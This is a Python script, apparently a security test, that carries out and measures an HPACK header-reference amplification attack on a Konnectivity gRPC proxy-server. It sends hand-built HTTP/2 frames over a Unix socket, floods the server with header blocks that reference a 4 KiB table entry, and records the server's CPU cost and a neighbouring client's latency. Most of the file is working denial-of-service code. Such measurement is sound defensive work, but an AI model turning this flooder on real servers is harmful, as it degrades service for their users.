#!/usr/bin/env python3
"""The HPACK reference attack on a gRPC front end, measured: proxy-server's CPU per header block and a neighbour's latency.

The attacker (raw HTTP/2 on the front end's Unix socket) puts one 4 KiB `:authority` that is no
URI authority into the HPACK table, then sends header blocks that are one-octet references to
it: `big` blocks are 64 KiB (HEADERS and three CONTINUATIONs of 16 KiB, the most the normaliser
takes), `small` ones four references (13 octets with the frame header). Each block opens a
stream; the server answers each (a reset, with or without a 431 first).

  cost:       N blocks on one connection, proxy-server's CPU time (utime + stime of --pid) from
              the first block until every stream was answered, per block and per MB sent.
  neighbour:  a grpcio client (one channel, as kube-apiserver keeps one) dials --echo through the
              front end, echoes one message and closes, one dial after another, for --seconds
              quiet, then for --seconds while --attackers connections send blocks without pause;
              and GET /healthz on --admin likewise. Prints the latencies' median, p99 and max.

Run with the CI venv's Python (grpcio):
  /opt/seedgate-ci-venv/bin/python3 hpack_references.py --socket S --pid P --admin HOST:PORT \
      --echo HOST:PORT --proto proxy-server/proto/konnectivity-client.proto [--shape big|small]
"""

import argparse
import asyncio
import http.client
import importlib
import os
import shutil
import socket
import statistics
import sys
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
AUTHORITY = b"a" * 4053 + b"/"  # no URI authority; with its name and 32, a 4,096-octet entry


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def hpack_int(prefix_bits, flags, value):
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([flags | value])
    out, value = [flags | top], value - top
    while value >= 0x80:
        out.append(0x80 | (value & 0x7F))
        value >>= 7
    return bytes(out + [value])


def opening():
    """The preface, empty SETTINGS, and a request that puts the authority in the table."""
    block = b"\x83\x86\x84" + b"\x41" + hpack_int(7, 0, len(AUTHORITY)) + AUTHORITY
    return PREFACE + frame(0x4, 0, 0, b"") + frame(0x1, 0x5, 1, block)


def attack_block(stream, shape):
    if shape == "small":
        return frame(0x1, 0x4, stream, b"\xbe" * 4)
    if shape == "plain":
        # For comparison, no attack: a request as small as HTTP/2 allows (POST, http, / by
        # static index), served by the gRPC service (which answers that it has no such method).
        return frame(0x1, 0x5, stream, b"\x83\x86\x84")
    refs = b"\xbe" * 16384
    return b"".join(frame(k, f, stream, refs) for k, f in [(0x1, 0), (0x9, 0), (0x9, 0), (0x9, 0x4)])


class Attacker:
    """One HTTP/2 connection sending attack blocks; a thread reads (and counts) the answers."""

    def __init__(self, path, shape):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(path)
        self.shape, self.next_stream, self.sent_bytes = shape, 3, 0
        self.answered, self.opened, self.goaway = set(), False, None
        self.lock = threading.Condition()
        self.sock.sendall(opening())
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                with self.lock:
                    self.goaway = self.goaway or "closed"
                    self.lock.notify_all()
                return
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                kind, flags = buf[3], buf[4]
                stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload, buf = buf[9 : 9 + n], buf[9 + n :]
                with self.lock:
                    if stream == 1 and kind == 0x1:
                        self.opened = True  # the opening request answered
                        self.lock.notify_all()
                    elif kind == 0x3 or (kind in (0x0, 0x1) and flags & 0x1):
                        self.answered.add(stream)  # reset, or answered to its end
                        self.lock.notify_all()
                    elif kind == 0x7:
                        self.goaway = payload[4:8].hex() + " " + payload[8:].decode(errors="replace")
                        self.lock.notify_all()
                    elif kind == 0x4 and not flags & 1:
                        self.sock.sendall(frame(0x4, 0x1, 0, b""))

    def send(self, blocks):
        out = []
        for _ in range(blocks):
            out.append(attack_block(self.next_stream, self.shape))
            self.next_stream += 2
        data = b"".join(out)
        self.sock.sendall(data)
        self.sent_bytes += len(data)

    def wait_opened(self, timeout):
        end = time.monotonic() + timeout
        with self.lock:
            while not self.opened and not self.goaway and time.monotonic() < end:
                self.lock.wait(end - time.monotonic())
            return self.opened

    def wait_resets(self, n, timeout):
        end = time.monotonic() + timeout
        with self.lock:
            while len(self.answered) < n and not self.goaway:
                left = end - time.monotonic()
                if left <= 0:
                    return False
                self.lock.wait(left)
            return len(self.answered) >= n


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def cost(a, blocks):
    att = Attacker(a.socket, a.shape)
    assert att.wait_opened(30), "the opening request was not answered"
    before, sent0, t0 = cpu_seconds(a.pid), att.sent_bytes, time.monotonic()
    batch = 1 if a.shape == "big" else 1000
    done = 0
    while done < blocks:
        att.send(min(batch, blocks - done))
        done += min(batch, blocks - done)
    ok = att.wait_resets(blocks, 600)
    cpu, wall, sent = cpu_seconds(a.pid) - before, time.monotonic() - t0, att.sent_bytes - sent0
    print(
        f"cost ({a.shape}): {blocks} blocks, {sent} bytes sent, answered: {ok} (goaway: {att.goaway}); "
        f"proxy-server CPU {cpu:.2f} s in {wall:.2f} s: {cpu / blocks * 1e3:.3f} ms per block, "
        f"{cpu / (sent / 1e6):.3f} s per MB sent"
    )


def load_stubs(proto):
    from grpc_tools import protoc

    out = tempfile.mkdtemp(prefix="konnectivity-stubs-")
    try:
        shutil.copy(proto, os.path.join(out, "konnectivity.proto"))
        protoc.main(["protoc", f"-I{out}", f"--python_out={out}", f"--grpc_python_out={out}", "konnectivity.proto"])
        sys.path.insert(0, out)
        return importlib.import_module("konnectivity_pb2"), importlib.import_module("konnectivity_pb2_grpc")
    finally:
        shutil.rmtree(out, ignore_errors=True)


def summary(name, xs):
    xs = sorted(xs)
    if not xs:
        return f"{name}: no samples"
    p99 = xs[min(len(xs) - 1, int(len(xs) * 0.99))]
    return f"{name}: n={len(xs)} median {statistics.median(xs) * 1e3:.2f} ms, p99 {p99 * 1e3:.2f} ms, max {xs[-1] * 1e3:.2f} ms"


async def neighbour(a, seconds, pb, pbg, grpc):
    """Dials through the front end and /healthz, one after another, for `seconds`; a dial not
    answered within 30 s counts as 30 s."""
    dials, health = [], []
    opts = [("grpc.enable_http_proxy", 0), ("grpc.enable_retries", 0)]
    async with grpc.aio.insecure_channel(f"unix://{a.socket}", options=opts) as ch:
        stub = pbg.ProxyServiceStub(ch)
        end = time.monotonic() + seconds
        rnd = 1
        host, port = a.admin.rsplit(":", 1)
        while time.monotonic() < end:
            rnd += 1
            t0 = time.monotonic()
            try:
                await asyncio.wait_for(dial_echo_close(a, stub, pb, grpc, rnd), 30)
            except asyncio.TimeoutError:
                pass
            dials.append(time.monotonic() - t0)
            t0 = time.monotonic()
            c = http.client.HTTPConnection(host, int(port), timeout=30)
            try:
                c.request("GET", "/healthz")
                c.getresponse().read()
            except OSError:
                pass
            c.close()
            health.append(time.monotonic() - t0)
            await asyncio.sleep(0.01)
    return dials, health


async def dial_echo_close(a, stub, pb, grpc, rnd):
    call = stub.Proxy()
    await call.write(pb.Packet(type=pb.DIAL_REQ, dialRequest=pb.DialRequest(protocol="tcp", address=a.echo, random=rnd)))
    rsp = await call.read()
    cid = rsp.dialResponse.connectID
    if rsp.dialResponse.error or not cid:
        raise SystemExit(f"neighbour dial failed: {rsp}")
    await call.write(pb.Packet(type=pb.DATA, data=pb.Data(connectID=cid, data=b"ping")))
    got = await call.read()
    assert got.data.data == b"ping", got
    await call.write(pb.Packet(type=pb.CLOSE_REQ, closeRequest=pb.CloseRequest(connectID=cid)))
    await call.done_writing()
    while await call.read() is not grpc.aio.EOF:
        pass


def flood(a, stop, counts):
    """One attacking connection, sending blocks until `stop`; a new one when the server ends it."""
    while not stop.is_set():
        att = Attacker(a.socket, a.shape)
        t0, sent0 = time.monotonic(), att.sent_bytes
        try:
            while not stop.is_set() and not att.goaway:
                att.send(1 if a.shape == "big" else 200)
                if a.rate:
                    # At most --rate MB/s over all the attacking connections.
                    ahead = (att.sent_bytes - sent0) / (a.rate * 1e6 / a.attackers) - (time.monotonic() - t0)
                    if ahead > 0:
                        time.sleep(ahead)
        except OSError:
            pass
        counts.append(att.sent_bytes)
        att.sock.close()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--socket", required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--admin", required=True)
    p.add_argument("--echo", required=True)
    p.add_argument("--proto", required=True)
    p.add_argument("--shape", choices=["big", "small", "plain"], default="big")
    p.add_argument("--blocks", type=int, default=40)
    p.add_argument("--seconds", type=float, default=15)
    p.add_argument("--attackers", type=int, default=1)
    p.add_argument("--rate", type=float, default=0, help="MB/s sent by all attackers together (0: as fast as they can)")
    a = p.parse_args()

    # An echo server for the neighbour's dials.
    host, port = a.echo.rsplit(":", 1)
    srv = socket.create_server((host, int(port)))

    def serve(c):
        try:
            for b in iter(lambda: c.recv(65536), b""):
                c.sendall(b)
        except OSError:
            pass

    def echo():
        while True:
            c, _ = srv.accept()
            threading.Thread(target=serve, args=(c,), daemon=True).start()

    threading.Thread(target=echo, daemon=True).start()

    cost(a, a.blocks)
    import grpc

    pb, pbg = load_stubs(a.proto)
    quiet = asyncio.run(neighbour(a, a.seconds, pb, pbg, grpc))
    stop, counts = threading.Event(), []
    threads = [threading.Thread(target=flood, args=(a, stop, counts), daemon=True) for _ in range(a.attackers)]
    for t in threads:
        t.start()
    cpu0, t0 = cpu_seconds(a.pid), time.monotonic()
    loud = asyncio.run(neighbour(a, a.seconds, pb, pbg, grpc))
    stop.set()
    cpu, wall = cpu_seconds(a.pid) - cpu0, time.monotonic() - t0
    rate = f"{a.rate} MB/s" if a.rate else "unpaced"
    for name, (dials, health) in [("quiet", quiet), (f"under attack ({a.shape}, {a.attackers} connection(s), {rate})", loud)]:
        print(summary(f"{name}: neighbour dial+echo+close", dials))
        print(summary(f"{name}: /healthz", health))
    for t in threads:
        t.join()
    print(f"under attack: proxy-server CPU {cpu:.1f} s in {wall:.1f} s; {len(counts)} attacking connections sent {sum(counts) / 1e6:.0f} MB")


if __name__ == "__main__":
    main()
